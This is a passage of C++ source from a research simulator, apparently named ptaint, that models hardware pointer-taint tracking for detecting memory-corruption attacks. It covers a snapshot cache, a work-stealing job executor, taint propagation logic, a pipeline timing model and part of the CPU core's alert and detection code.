  if (env_truthy("PTAINT_SNAPSHOT_STORE")) opts.enabled = true;
  if (const char* dir = std::getenv("PTAINT_SNAPSHOT_DIR");
      dir != nullptr && *dir != '\0') {
    opts.enabled = true;
    opts.disk_dir = dir;
  }
  if (const char* hot = std::getenv("PTAINT_SNAPSHOT_HOT");
      hot != nullptr && *hot != '\0') {
    opts.hot_snapshots = static_cast<size_t>(std::strtoull(hot, nullptr, 10));
  }
  return opts;
}

SnapshotCache::SnapshotCache() : SnapshotCache(StoreOptions::from_env()) {}

SnapshotCache::SnapshotCache(const StoreOptions& options) : options_(options) {
  if (!options_.enabled) return;
  mem::PageStore::Config config;
  config.hot_page_budget = options_.hot_pages;
  config.disk_dir = options_.disk_dir;
  store_ = std::make_unique<mem::PageStore>(std::move(config));
  if (!options_.disk_dir.empty()) load_disk_blobs();
}

SnapshotCache::~SnapshotCache() = default;

void SnapshotCache::load_disk_blobs() {
  namespace fs = std::filesystem;
  std::error_code ec;
  for (const auto& dirent : fs::directory_iterator(options_.disk_dir, ec)) {
    const std::string name = dirent.path().filename().string();
    if (name.rfind("snap-", 0) != 0 || name.size() < 6 ||
        name.substr(name.size() - 5) != ".blob") {
      continue;
    }
    std::ifstream in(dirent.path(), std::ios::binary);
    if (!in) continue;
    std::vector<uint8_t> bytes{std::istreambuf_iterator<char>(in),
                               std::istreambuf_iterator<char>()};
    auto decoded = core::decode_stored_snapshot(bytes);
    if (!decoded) continue;
    auto& [key, stored] = *decoded;
    // Adopt one pin per page ref; a blob referencing pages whose files were
    // lost is discarded (the key just rebuilds on first use).
    size_t pinned = 0;
    bool ok = true;
    for (const auto& [idx, page_key] : stored.pages) {
      (void)idx;
      if (!store_->pin(page_key)) {
        ok = false;
        break;
      }
      ++pinned;
    }
    if (!ok) {
      for (size_t i = 0; i < pinned; ++i) {
        store_->release(stored.pages[i].second);
      }
      continue;
    }
    auto entry = std::make_shared<Entry>();
    entry->stored = std::move(stored);
    entry->from_disk = true;
    entries_[key] = std::move(entry);  // ctor context: no locking needed
  }
}

std::shared_ptr<const core::MachineSnapshot> SnapshotCache::get(
    const std::string& key, const Builder& build) {
  std::shared_ptr<Entry> entry;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    auto& slot = entries_[key];
    if (!slot) slot = std::make_shared<Entry>();
    entry = slot;
  }
  std::lock_guard<std::mutex> build_lock(entry->build_mutex);
  bool has_stored = false;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    if (entry->snapshot) {
      ++stats_.hits;
      entry->last_touch = ++tick_;
      return entry->snapshot;
    }
    has_stored = entry->stored.has_value();
  }
  if (has_stored && store_) {
    // Rehydrate from store pages — a hit: nothing is rebuilt.  `stored` is
    // only mutated under build_mutex (held), so reading it unlocked is safe.
    const auto t0 = std::chrono::steady_clock::now();
    auto hydrated = core::hydrate_snapshot(*entry->stored, *store_);
    const double ms = std::chrono::duration<double, std::milli>(
                          std::chrono::steady_clock::now() - t0)
                          .count();
    if (hydrated) {
      auto snapshot =
          std::make_shared<const core::MachineSnapshot>(std::move(*hydrated));
      std::lock_guard<std::mutex> lock(mutex_);
      entry->snapshot = snapshot;
      entry->last_touch = ++tick_;
      ++stats_.hits;
      ++stats_.rehydrations;
      stats_.hydrate_ms += ms;
      if (entry->from_disk && !entry->disk_counted) {
        ++stats_.disk_rehydrations;
        entry->disk_counted = true;
      }
      dehydrate_lru_locked();
      return snapshot;
    }
    // Page file lost/corrupt: fall back to a full rebuild below.
    std::lock_guard<std::mutex> lock(mutex_);
    entry->stored.reset();
    entry->from_disk = false;
  }
  {
    std::lock_guard<std::mutex> lock(mutex_);
    ++stats_.misses;
  }
  // Build outside mutex_ so unrelated keys boot concurrently; only callers
  // of this key serialize on build_mutex.
  const auto t0 = std::chrono::steady_clock::now();
  core::MachineSnapshot built = build();
  const double built_ms = std::chrono::duration<double, std::milli>(
                              std::chrono::steady_clock::now() - t0)
                              .count();
  // Dehydrate before publishing: interning swaps the snapshot's blocks for
  // canonical store duplicates (content-identical), then the snapshot is
  // frozen behind a const pointer.  The blob is queued after its pages'
  // interns, so the write-behind FIFO makes it durable last (a blob on disk
  // always finds its pages).  Pipeline-bearing snapshots return nullopt and
  // stay hydrated forever.
  std::optional<core::StoredSnapshot> stored;
  if (store_) {
    stored = core::dehydrate_snapshot(built, *store_);
    if (stored && !options_.disk_dir.empty()) {
      store_->queue_blob(blob_name(key),
                         core::encode_stored_snapshot(key, *stored));
    }
  }
  auto snapshot =
      std::make_shared<const core::MachineSnapshot>(std::move(built));
  // Publish under mutex_ as well: stats() walks entries_ without taking
  // per-entry build mutexes.
  std::lock_guard<std::mutex> lock(mutex_);
  entry->snapshot = snapshot;
  entry->stored = std::move(stored);
  entry->last_touch = ++tick_;
  ++stats_.builds;
  stats_.build_ms += built_ms;
  dehydrate_lru_locked();
  return snapshot;
}

void SnapshotCache::dehydrate_lru_locked() {
  if (!store_) return;
  // Hydrated entries WITH a dehydrated form beyond the hot budget drop
  // their materialized snapshot, coldest first.  Entries without one
  // (pipeline-bearing) are never dropped — they could not come back.
  std::vector<Entry*> droppable;
  for (const auto& [key, entry] : entries_) {
    if (entry && entry->snapshot && entry->stored) {
      droppable.push_back(entry.get());
    }
  }
  if (droppable.size() <= options_.hot_snapshots) return;
  std::sort(droppable.begin(), droppable.end(),
            [](const Entry* a, const Entry* b) {
              return a->last_touch < b->last_touch;
            });
  const size_t excess = droppable.size() - options_.hot_snapshots;
  for (size_t i = 0; i < excess; ++i) {
    droppable[i]->snapshot.reset();
    ++stats_.dehydrations;
  }
  // Dropping cache references may have left store blocks sole-owned;
  // compress the cold ones.  (PageStore has its own lock; no ordering
  // cycle — the store never calls back into the cache.)
  store_->evict_cold();
}

SnapshotCache::Stats SnapshotCache::stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  Stats out = stats_;
  for (const auto& [key, entry] : entries_) {
    if (!entry) continue;
    if (entry->stored) ++out.stored_snapshots;
    if (!entry->snapshot) continue;
    ++out.hydrated_snapshots;
    out.snapshot_pages += entry->snapshot->memory.mapped_pages();
    out.shared_pages += entry->snapshot->memory.shared_page_count();
  }
  if (store_) {
    out.store_enabled = true;
    out.store = store_->stats();
  }
  return out;
}

void SnapshotCache::drop_hydrated() {
  if (!store_) return;
  std::lock_guard<std::mutex> lock(mutex_);
  for (const auto& [key, entry] : entries_) {
    if (entry && entry->snapshot && entry->stored) {
      entry->snapshot.reset();
      ++stats_.dehydrations;
    }
  }
  store_->evict_cold();
}

void SnapshotCache::flush_disk() {
  if (store_) store_->flush();
}

}  // namespace ptaint::campaign
