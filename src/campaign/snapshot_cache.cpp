#include "campaign/snapshot_cache.hpp"

namespace ptaint::campaign {

std::shared_ptr<const core::MachineSnapshot> SnapshotCache::get(
    const std::string& key, const Builder& build) {
  std::shared_ptr<Entry> entry;
  {
    std::lock_guard<std::mutex> lock(mutex_);
    auto& slot = entries_[key];
    if (!slot) slot = std::make_shared<Entry>();
    entry = slot;
  }
  std::lock_guard<std::mutex> build_lock(entry->build_mutex);
  if (entry->snapshot) {
    std::lock_guard<std::mutex> lock(mutex_);
    ++stats_.hits;
    return entry->snapshot;
  }
  // Build outside mutex_ so unrelated keys boot concurrently; only callers
  // of this key serialize on build_mutex.
  auto snapshot =
      std::make_shared<const core::MachineSnapshot>(build());
  entry->snapshot = snapshot;
  std::lock_guard<std::mutex> lock(mutex_);
  ++stats_.builds;
  return snapshot;
}

SnapshotCache::Stats SnapshotCache::stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return stats_;
}

}  // namespace ptaint::campaign
