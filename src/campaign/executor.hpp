// Work-stealing thread-pool executor for campaign jobs.
//
// The matrix is dealt round-robin onto per-worker deques; a worker pops
// from the back of its own deque and, when empty, steals from the front of
// a victim's — the classic split that keeps an unbalanced matrix (one slow
// SPEC workload among quick attack runs) from idling workers.
//
// Each job runs entirely on one worker thread: build (or restore) the
// Machine, drive it in instruction slices with wall-clock and
// instruction-budget checks between slices, classify, write the result
// into its matrix slot.  Guest faults are captured in the job's result; a
// job that throws is marked kHarnessError and retried once.  Results come
// back in stable matrix order regardless of completion order.
//
// Jobs carrying the fork fields (machine_key / make_config / get_snapshot)
// additionally let a worker keep a small pool of machines, one per
// (snapshot × config) key: a repeat job restores its machine from the
// shared snapshot — a COW delta restore, O(pages the last run dirtied) —
// instead of constructing and deep-populating a fresh one.  The matrix is
// dealt in contiguous chunks (not round-robin) so neighbouring jobs, which
// share keys by construction, land on the same worker.
//
// The per-worker execution core (MachinePool + run_job) lives in
// campaign/worker.hpp, shared with the ptaint-serve daemon's shard
// workers; this class adds the batch concerns: dealing, stealing, stable
// result merging, and aggregate stats.
#pragma once

#include <cstdint>
#include <vector>

#include "campaign/job.hpp"

namespace ptaint::campaign {

class Executor {
 public:
  struct Config {
    /// Worker threads.  The default favours determinism of the *campaign*
    /// (not of any single host): 4 workers everywhere, as the paper matrix
    /// is small; raise for big sweeps on big hosts.
    int workers = 4;
    /// Instructions per run_for slice between deadline checks (~a few
    /// milliseconds of guest time per check).
    uint64_t slice_instructions = 250'000;
    /// Bounded retries for jobs that fail in the harness (make/classify
    /// threw).  Guest-side faults are results, not retries.
    int max_retries = 1;
  };

  struct Stats {
    uint64_t jobs = 0;
    uint64_t steals = 0;   // jobs a worker took from another's deque
    uint64_t retries = 0;  // extra attempts after harness errors
    uint64_t machine_builds = 0;  // fork-path machines constructed
    uint64_t machine_reuses = 0;  // fork-path jobs served by a kept machine
    // Per-phase wall time summed over all jobs' successful attempts (they
    // overlap across workers, so sums can exceed the campaign wall time).
    double build_ms = 0.0;
    double restore_ms = 0.0;
    double run_ms = 0.0;
    double judge_ms = 0.0;
  };

  Executor();
  explicit Executor(Config config);

  /// Runs every job and returns results indexed exactly like `jobs`.
  std::vector<JobResult> run(const std::vector<Job>& jobs);

  /// Statistics of the most recent run().
  const Stats& stats() const { return stats_; }

 private:
  Config config_;
  Stats stats_;
};

}  // namespace ptaint::campaign
