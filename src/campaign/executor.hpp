// Work-stealing thread-pool executor for campaign jobs.
//
// The matrix is dealt round-robin onto per-worker deques; a worker pops
// from the back of its own deque and, when empty, steals from the front of
// a victim's — the classic split that keeps an unbalanced matrix (one slow
// SPEC workload among quick attack runs) from idling workers.
//
// Each job runs entirely on one worker thread: build (or restore) the
// Machine, drive it in instruction slices with wall-clock and
// instruction-budget checks between slices, classify, write the result
// into its matrix slot.  Guest faults are captured in the job's result; a
// job that throws is marked kHarnessError and retried once.  Results come
// back in stable matrix order regardless of completion order.
#pragma once

#include <cstdint>
#include <vector>

#include "campaign/job.hpp"

namespace ptaint::campaign {

class Executor {
 public:
  struct Config {
    /// Worker threads.  The default favours determinism of the *campaign*
    /// (not of any single host): 4 workers everywhere, as the paper matrix
    /// is small; raise for big sweeps on big hosts.
    int workers = 4;
    /// Instructions per run_for slice between deadline checks (~a few
    /// milliseconds of guest time per check).
    uint64_t slice_instructions = 250'000;
    /// Bounded retries for jobs that fail in the harness (make/classify
    /// threw).  Guest-side faults are results, not retries.
    int max_retries = 1;
  };

  struct Stats {
    uint64_t jobs = 0;
    uint64_t steals = 0;   // jobs a worker took from another's deque
    uint64_t retries = 0;  // extra attempts after harness errors
  };

  Executor();
  explicit Executor(Config config);

  /// Runs every job and returns results indexed exactly like `jobs`.
  std::vector<JobResult> run(const std::vector<Job>& jobs);

  /// Statistics of the most recent run().
  const Stats& stats() const { return stats_; }

 private:
  JobResult execute_job(const Job& job, size_t index);

  Config config_;
  Stats stats_;
};

}  // namespace ptaint::campaign
