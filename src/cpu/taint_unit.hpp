// ALU taintedness-tracking logic (paper Section 4.2, Table 1).
//
// This is the combinational block shaded in the paper's Figure 3: given the
// opcode and the source operands' taint vectors it produces the result taint
// vector, and for compare instructions requests the in-place untainting of
// the operand registers.  The hardware cost of this block is a 4-way MUX over
// four small per-byte functions; `gate_cost()` reports the estimate used by
// the area-overhead bench.
#pragma once

#include "isa/isa.hpp"
#include "mem/taint.hpp"
#include "cpu/taint_policy.hpp"

namespace ptaint::cpu {

/// Inputs to one taint-propagation evaluation.
struct TaintOpInputs {
  isa::Instruction inst;
  mem::TaintedWord a;  // first source operand (rs or rt per op semantics)
  mem::TaintedWord b;  // second source operand; untainted constant for imms
  bool b_is_immediate = false;
};

/// Result of one taint-propagation evaluation.
struct TaintOpResult {
  mem::TaintBits result_taint = mem::kUntainted;
  bool untaint_sources = false;  // compare rule: clear taint of rs/rt
};

class TaintUnit {
 public:
  explicit TaintUnit(const TaintPolicy& policy) : policy_(policy) {}

  /// Evaluates the Table 1 propagation function for an ALU-class operation.
  TaintOpResult propagate(const TaintOpInputs& in) const;

  /// Statistics: number of evaluations that saw any tainted input.
  struct Stats {
    uint64_t evaluations = 0;
    uint64_t tainted_evaluations = 0;
    uint64_t compare_untaints = 0;
    uint64_t and_zero_untaints = 0;
    uint64_t xor_self_untaints = 0;
  };
  const Stats& stats() const { return stats_; }
  void reset_stats() { stats_ = {}; }
  /// Overwrites the counters — machine snapshot/restore support.
  void set_stats(const Stats& stats) { stats_ = stats; }
  /// Mutable counter access for the superblock engine's untainted fast
  /// paths, which skip propagate() but must replicate its counter bumps
  /// exactly (stats are part of the cross-engine identity contract).
  Stats& stats_ref() const { return stats_; }

  /// Rough two-input-NAND-equivalent gate count of the tracking logic, for
  /// the Figure 3 / Section 5.4 area discussion.
  static int gate_cost();

 private:
  mem::TaintBits apply_granularity(mem::TaintBits t) const;

  const TaintPolicy& policy_;
  mutable Stats stats_;
};

}  // namespace ptaint::cpu
