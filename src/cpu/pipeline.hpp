// Five-stage in-order pipeline timing model (paper Figure 3, Section 5.4).
//
// The functional core executes instructions; this model consumes the retire
// stream and accounts cycles: IF/ID/EX/MEM/WB with load-use interlocks,
// branch-resolution flushes, and an I-/D-/L2 cache hierarchy.  It also
// carries the paper's argument that taint tracking is *off the critical
// path*: per-stage combinational delays are modeled in picoseconds and the
// taint logic's delay is compared against the stage it runs beside.
#pragma once

#include <array>
#include <cstdint>
#include <string>

#include "isa/isa.hpp"
#include "mem/cache.hpp"

namespace ptaint::cpu {

struct PipelineConfig {
  mem::CacheConfig icache{.size_bytes = 16 * 1024, .line_bytes = 32,
                          .ways = 2, .hit_latency = 0, .miss_penalty = 6};
  mem::CacheConfig dcache{.size_bytes = 16 * 1024, .line_bytes = 32,
                          .ways = 4, .hit_latency = 0, .miss_penalty = 6};
  mem::CacheConfig l2{.size_bytes = 256 * 1024, .line_bytes = 64,
                      .ways = 8, .hit_latency = 0, .miss_penalty = 40};
  uint32_t branch_flush_cycles = 2;  // branch resolves in EX
  bool taint_tracking = true;        // extend datapath with taint bits

  /// Branch prediction for conditional branches: kStaticNotTaken charges
  /// the flush on every taken branch; kTwoBit uses a 512-entry table of
  /// saturating counters and charges the flush only on mispredictions.
  /// (J/JAL/JR/JALR always redirect the fetch and always pay the flush.)
  enum class BranchPredictor { kStaticNotTaken, kTwoBit };
  BranchPredictor predictor = BranchPredictor::kStaticNotTaken;
};

struct PipelineStats {
  uint64_t instructions = 0;
  uint64_t cycles = 0;
  uint64_t load_use_stalls = 0;
  uint64_t branch_flush_cycles = 0;
  uint64_t icache_miss_cycles = 0;
  uint64_t dcache_miss_cycles = 0;
  uint64_t cond_branches = 0;
  uint64_t mispredictions = 0;

  double misprediction_rate() const {
    return cond_branches == 0
               ? 0.0
               : static_cast<double>(mispredictions) / cond_branches;
  }

  double ipc() const {
    return cycles == 0 ? 0.0 : static_cast<double>(instructions) / cycles;
  }
};

/// Per-stage combinational delays (picoseconds) used for the critical-path
/// argument.  The taint OR-merge runs beside the ALU; the detector OR-gate
/// runs beside address generation / retirement checks.
struct StageDelays {
  int alu_ps = 620;           // 32-bit adder
  int taint_merge_ps = 95;    // 4-bit per-byte OR + mux
  int agen_ps = 540;          // address generation
  int detector_ps = 70;       // 4-input OR + mode gate
  int retire_check_ps = 180;  // existing retirement exception logic

  bool taint_on_critical_path() const {
    return taint_merge_ps > alu_ps || detector_ps > retire_check_ps;
  }
};

class Pipeline {
 public:
  explicit Pipeline(const PipelineConfig& config);

  /// Accounts one retired instruction.
  void on_retire(const isa::Instruction& inst, uint32_t pc, bool taken,
                 bool is_mem, uint32_t ea);

  const PipelineStats& stats() const { return stats_; }
  const mem::Cache& icache() const { return icache_; }
  const mem::Cache& dcache() const { return dcache_; }
  const mem::Cache& l2() const { return l2_; }
  const PipelineConfig& config() const { return config_; }

  /// Storage bits added by the taint extension across the register file,
  /// pipeline latches and caches (the Section 5.4 area overhead).
  uint64_t taint_storage_bits() const;
  /// Baseline storage bits of the same structures without the extension.
  uint64_t baseline_storage_bits() const;

  static StageDelays stage_delays() { return {}; }

 private:
  PipelineConfig config_;
  mem::Cache icache_;
  mem::Cache dcache_;
  mem::Cache l2_;
  PipelineStats stats_;
  uint8_t prev_load_dest_ = 0;
  bool prev_was_load_ = false;
  std::array<uint8_t, 512> bht_{};  // 2-bit counters, weakly-not-taken init
};

}  // namespace ptaint::cpu
