#include "cpu/cpu.hpp"

#include <cstdio>
#include <mutex>

#include "cpu/jit/jit_engine.hpp"
#include "cpu/superblock.hpp"

namespace ptaint::cpu {

using isa::Instruction;
using isa::Op;
using mem::TaintBits;
using mem::TaintedWord;

std::string SecurityAlert::to_string() const {
  char buf[200];
  if (kind == AlertKind::kAnnotatedRegionTainted) {
    std::snprintf(buf, sizeof buf,
                  "%x: %s\ttainted write into annotated region '%s'", pc,
                  disasm.c_str(), region.c_str());
  } else if (kind == AlertKind::kAddressLeak) {
    std::snprintf(buf, sizeof buf, "%x: %s\tleak of %s byte at 0x%x", pc,
                  disasm.c_str(), region.c_str(), reg_value);
  } else {
    std::snprintf(buf, sizeof buf, "%x: %s\t$%d=0x%x", pc, disasm.c_str(),
                  reg, reg_value);
  }
  return buf;
}

Cpu::Cpu(mem::TaintedMemory& memory, const TaintPolicy& policy)
    : memory_(memory), policy_(policy), taint_unit_(policy) {
  // The stack pointer is the root of all stack-address provenance.
  regs_.set(isa::kSp,
            TaintedWord{isa::layout::kStackTop, mem::kStackAddrMask});
}

Cpu::~Cpu() = default;

void Cpu::set_engine(Engine engine) {
  if (engine == Engine::kJit && !JitEngine::supported()) {
    static std::once_flag warned;
    std::call_once(warned, [] {
      std::fprintf(stderr,
                   "ptaint: jit engine not supported on this host; "
                   "falling back to superblock\n");
    });
    engine = Engine::kSuperblock;
  }
  engine_ = engine;
  if (engine != Engine::kStep && sb_ == nullptr) {
    sb_ = std::make_unique<SuperblockEngine>(*this);
  }
  if (engine == Engine::kJit) sb_->enable_jit();
  if (sb_) sb_->reset();
}

void Cpu::set_block_leaders(const std::vector<uint8_t>& leaders) {
  leader_bits_.assign(decode_cache_.size(), 0);
  const size_t n = leaders.size() < leader_bits_.size() ? leaders.size()
                                                        : leader_bits_.size();
  for (size_t i = 0; i < n; ++i) leader_bits_[i] = leaders[i] ? 1 : 0;
  // Existing blocks were built against the old leader set; retranslate.
  if (sb_) sb_->flush_all();
}

const SuperblockStats& Cpu::superblock_stats() const {
  static const SuperblockStats kZero;
  return sb_ ? sb_->stats() : kZero;
}

const JitStats& Cpu::jit_stats() const {
  static const JitStats kZero;
  return sb_ ? sb_->jit_stats() : kZero;
}

void Cpu::request_exit(int status) {
  exit_status_ = status;
  stop_ = StopReason::kExit;
}

void Cpu::request_fault(std::string message) { fault(std::move(message)); }

void Cpu::fault(std::string message) {
  char buf[64];
  std::snprintf(buf, sizeof buf, " (pc=0x%x)", pc_);
  fault_message_ = std::move(message) + buf;
  stop_ = StopReason::kFault;
}

void Cpu::raise_alert(const Instruction& inst, uint8_t reg, TaintedWord value,
                      AlertKind kind) {
  SecurityAlert alert;
  alert.kind = kind;
  alert.pc = pc_;
  alert.inst = inst;
  alert.disasm = isa::disassemble(inst, pc_);
  alert.reg = reg;
  alert.reg_value = value.value;
  alert.taint = value.taint;
  alert_ = std::move(alert);
  stop_ = StopReason::kSecurityAlert;
}

void Cpu::protect_region(uint32_t addr, uint32_t len, std::string name) {
  protected_regions_.push_back({addr, addr + len, std::move(name)});
}

void Cpu::set_executable_range(uint32_t begin, uint32_t end) {
  text_begin_ = begin;
  text_end_ = end;
  // Cap the cache so a pathological range (e.g. a raw core that never saw a
  // loader) cannot allocate gigabytes; fetches past the cap use the slow
  // path with identical semantics.
  constexpr uint32_t kMaxCachedInstructions = 4u << 20;
  const uint64_t span = end > begin ? (static_cast<uint64_t>(end) - begin) / 4
                                    : 0;
  const size_t n = static_cast<size_t>(
      span < kMaxCachedInstructions ? span : kMaxCachedInstructions);
  decode_cache_.assign(n, Instruction{});
  decode_valid_.assign(n, 0);
  elide_bits_.clear();  // any installed elision proof is for the old image
  leak_elide_bits_.clear();
  leader_bits_.clear();
  if (sb_) sb_->reset();  // superblocks are derived state; refill lazily
}

void Cpu::set_check_elision(const std::vector<uint8_t>& elision) {
  elide_bits_.assign(decode_cache_.size(), 0);
  const size_t n = elision.size() < elide_bits_.size() ? elision.size()
                                                       : elide_bits_.size();
  for (size_t i = 0; i < n; ++i) elide_bits_[i] = elision[i] ? 1 : 0;
  // Refresh entries that were already decoded under the previous bitmap.
  for (size_t i = 0; i < decode_valid_.size(); ++i) {
    if (decode_valid_[i] != 0) {
      decode_valid_[i] = i < n && elide_bits_[i] ? 2 : 1;
    }
  }
  // Cached superblocks baked the old verdicts into their micro-ops.
  if (sb_) sb_->flush_all();
}

void Cpu::invalidate_decode_range(uint32_t addr, uint32_t len) {
  if (decode_valid_.empty() || len == 0) return;
  if (addr >= text_end_ || addr + len <= text_begin_) return;
  const uint32_t lo = addr > text_begin_ ? addr : text_begin_;
  const uint32_t hi = addr + len < text_end_ ? addr + len : text_end_;
  for (uint32_t i = (lo - text_begin_) / 4; i <= (hi - 1 - text_begin_) / 4;
       ++i) {
    if (i >= decode_valid_.size()) break;
    decode_valid_[i] = 0;
    // Self-modifying code voids the static proofs for this PC: the new
    // instruction must be checked dynamically.
    if (i < elide_bits_.size()) elide_bits_[i] = 0;
    if (i < leak_elide_bits_.size()) leak_elide_bits_[i] = 0;
  }
  if (sb_) sb_->on_invalidate(lo, hi - lo);
}

Cpu::State Cpu::save_state() const {
  State s;
  s.regs = regs_;
  s.pc = pc_;
  s.stop = stop_;
  s.alert = alert_;
  s.fault_message = fault_message_;
  s.exit_status = exit_status_;
  s.stats = stats_;
  s.taint_stats = taint_unit_.stats();
  s.protected_regions = protected_regions_;
  s.text_begin = text_begin_;
  s.text_end = text_end_;
  return s;
}

void Cpu::restore_state(const State& s) {
  regs_ = s.regs;
  pc_ = s.pc;
  stop_ = s.stop;
  alert_ = s.alert;
  fault_message_ = s.fault_message;
  exit_status_ = s.exit_status;
  stats_ = s.stats;
  taint_unit_.set_stats(s.taint_stats);
  protected_regions_ = s.protected_regions;
  // Re-sizing the executable range also drops every cached decode; the
  // cache refills lazily from the restored memory image.
  set_executable_range(s.text_begin, s.text_end);
}

bool Cpu::restore_state_keep_caches(const State& s) {
  if (s.text_begin != text_begin_ || s.text_end != text_end_) {
    restore_state(s);
    return false;
  }
  regs_ = s.regs;
  pc_ = s.pc;
  stop_ = s.stop;
  alert_ = s.alert;
  fault_message_ = s.fault_message;
  exit_status_ = s.exit_status;
  stats_ = s.stats;
  taint_unit_.set_stats(s.taint_stats);
  protected_regions_ = s.protected_regions;
  // Decode cache, elide/leader bits and superblock translations survive:
  // they are derived from text bytes the caller proves unchanged, page by
  // page, via invalidate_decode_range on the delta-restored pages.
  return true;
}

void Cpu::set_leak_elision(const std::vector<uint8_t>& elision) {
  leak_elide_bits_.assign(decode_cache_.size(), 0);
  const size_t n = elision.size() < leak_elide_bits_.size()
                       ? elision.size()
                       : leak_elide_bits_.size();
  for (size_t i = 0; i < n; ++i) leak_elide_bits_[i] = elision[i] ? 1 : 0;
  // Leak elision is consulted at syscall time, not baked into decodes or
  // superblocks, so no cache flush is needed.
}

bool Cpu::kernel_output_leak(uint32_t addr, uint32_t len) {
  if (!policy_.leak_detection || len == 0) return false;
  if (policy_.mode == DetectionMode::kOff) return false;
  if (pc_ >= text_begin_) {
    const uint32_t idx = (pc_ - text_begin_) / 4;
    if (idx < leak_elide_bits_.size() && leak_elide_bits_[idx]) return false;
  }
  // §5.3-style annotation: output sites inside a may-publish function are
  // waived — the program is declared to publish pointers there on purpose.
  for (const auto& [begin, end] : publish_ranges_) {
    if (pc_ >= begin && pc_ < end) return false;
  }
  const uint8_t planes = memory_.addr_planes_in(addr, len);
  if (planes == 0) return false;
  std::string classes;
  if (planes & mem::kByteStackAddr) classes += "stack-addr";
  if (planes & mem::kByteHeapAddr) {
    classes += classes.empty() ? "heap-addr" : ",heap-addr";
  }
  if (planes & mem::kByteTextAddr) {
    classes += classes.empty() ? "text-addr" : ",text-addr";
  }
  TaintBits t = 0;
  if (planes & mem::kByteStackAddr) t |= mem::kStackAddrMask;
  if (planes & mem::kByteHeapAddr) t |= mem::kHeapAddrMask;
  if (planes & mem::kByteTextAddr) t |= mem::kTextAddrMask;
  SecurityAlert alert;
  alert.kind = AlertKind::kAddressLeak;
  alert.pc = pc_;
  alert.disasm = "syscall (output)";
  alert.reg = isa::kA1;
  alert.reg_value = memory_.first_addr_tainted(addr, len).value_or(addr);
  alert.taint = t;
  alert.region = std::move(classes);
  alert_ = std::move(alert);
  stop_ = StopReason::kSecurityAlert;
  return true;
}

bool Cpu::annotation_kernel_write(uint32_t addr, uint32_t len) {
  if (protected_regions_.empty() || len == 0) return false;
  if (policy_.mode == DetectionMode::kOff) return false;
  for (const auto& region : protected_regions_) {
    if (addr < region.end && addr + len > region.begin) {
      SecurityAlert alert;
      alert.kind = AlertKind::kAnnotatedRegionTainted;
      alert.pc = pc_;
      alert.disasm = "syscall (input copy)";
      alert.region = region.name;
      alert_ = std::move(alert);
      stop_ = StopReason::kSecurityAlert;
      return true;
    }
  }
  return false;
}

bool Cpu::detect_annotation(const Instruction& inst, uint32_t ea, uint32_t len,
                            TaintedWord value) {
  if (protected_regions_.empty() || !value.tainted()) return false;
  if (policy_.mode == DetectionMode::kOff) return false;
  for (const auto& region : protected_regions_) {
    if (ea < region.end && ea + len > region.begin) {
      SecurityAlert alert;
      alert.kind = AlertKind::kAnnotatedRegionTainted;
      alert.pc = pc_;
      alert.inst = inst;
      alert.disasm = isa::disassemble(inst, pc_);
      alert.reg = inst.rt;
      alert.reg_value = value.value;
      alert.taint = value.taint;
      alert.region = region.name;
      alert_ = std::move(alert);
      stop_ = StopReason::kSecurityAlert;
      return true;
    }
  }
  return false;
}

bool Cpu::detect_pointer(const Instruction& inst, uint8_t reg,
                         TaintedWord value, AlertKind kind) {
  if (!value.tainted()) return false;
  const bool is_control = kind == AlertKind::kTaintedJumpTarget;
  switch (policy_.mode) {
    case DetectionMode::kOff:
      return false;
    case DetectionMode::kControlDataOnly:
      if (!is_control) return false;
      break;
    case DetectionMode::kPointerTaint:
      break;
  }
  raise_alert(inst, reg, value, kind);
  return true;
}

void Cpu::alu_write(const Instruction& inst, uint8_t dest, uint32_t value,
                    TaintedWord a, TaintedWord b, bool b_imm) {
  TaintOpInputs in;
  in.inst = inst;
  in.a = a;
  in.b = b;
  in.b_is_immediate = b_imm;
  const TaintOpResult res = taint_unit_.propagate(in);
  if (res.untaint_sources) {
    // Table 1 compare rule: validated data is trusted afterwards.
    regs_.untaint(inst.rs);
    if (!b_imm) regs_.untaint(inst.rt);
    ++stats_.compare_untaints;
  }
  regs_.set(dest, TaintedWord{value, res.result_taint});
}

StopReason Cpu::step() {
  if (stop_ != StopReason::kRunning) return stop_;
  if (pc_ % 4 != 0) {
    fault("misaligned instruction fetch");
    return stop_;
  }
  if (policy_.nx_protection && (pc_ < text_begin_ || pc_ >= text_end_)) {
    SecurityAlert alert;
    alert.kind = AlertKind::kNxViolation;
    alert.pc = pc_;
    alert.disasm = "(fetch from non-executable memory)";
    alert.reg_value = pc_;
    alert_ = std::move(alert);
    stop_ = StopReason::kSecurityAlert;
    return stop_;
  }
  // Fetch through the decoded-instruction cache when the PC is inside the
  // cached text range; otherwise (shellcode on the stack, raw cores) decode
  // from memory with identical semantics.
  const uint32_t idx = (pc_ - text_begin_) / 4;
  if (pc_ >= text_begin_ && idx < decode_cache_.size()) {
    if (!decode_valid_[idx]) {
      decode_cache_[idx] = isa::decode(memory_.load_word(pc_).value);
      decode_valid_[idx] =
          idx < elide_bits_.size() && elide_bits_[idx] ? 2 : 1;
    }
    const Instruction& inst = decode_cache_[idx];
    if (inst.op == Op::kInvalid) {
      fault("invalid instruction encoding");
      return stop_;
    }
    return execute(inst, decode_valid_[idx] == 2);
  }
  const uint32_t word = memory_.load_word(pc_).value;
  const Instruction inst = isa::decode(word);
  if (inst.op == Op::kInvalid) {
    fault("invalid instruction encoding");
    return stop_;
  }
  return execute(inst);
}

StopReason Cpu::run(uint64_t max_instructions) {
  advance(max_instructions);
  if (stop_ == StopReason::kRunning) stop_ = StopReason::kInstLimit;
  return stop_;
}

StopReason Cpu::advance(uint64_t max_instructions) {
  // Retire hooks (trace/profile/pipeline) need per-instruction events the
  // superblock and JIT handlers do not surface, so they force the reference
  // path.
  if (engine_ != Engine::kStep && sb_ != nullptr && !retire_hook_) {
    return sb_->advance(max_instructions);
  }
  for (uint64_t i = 0; i < max_instructions; ++i) {
    if (step() != StopReason::kRunning) return stop_;
  }
  return stop_;
}

StopReason Cpu::execute(const Instruction& inst, bool elide) {
  uint32_t next_pc = pc_ + 4;
  bool taken = false;
  bool is_mem = false;
  uint32_t ea = 0;

  const auto rs = regs_.get(inst.rs);
  const auto rt = regs_.get(inst.rt);
  const auto imm_word = [&](uint32_t v) { return TaintedWord{v}; };

  switch (inst.op) {
    // ---- shifts ----
    case Op::kSll:
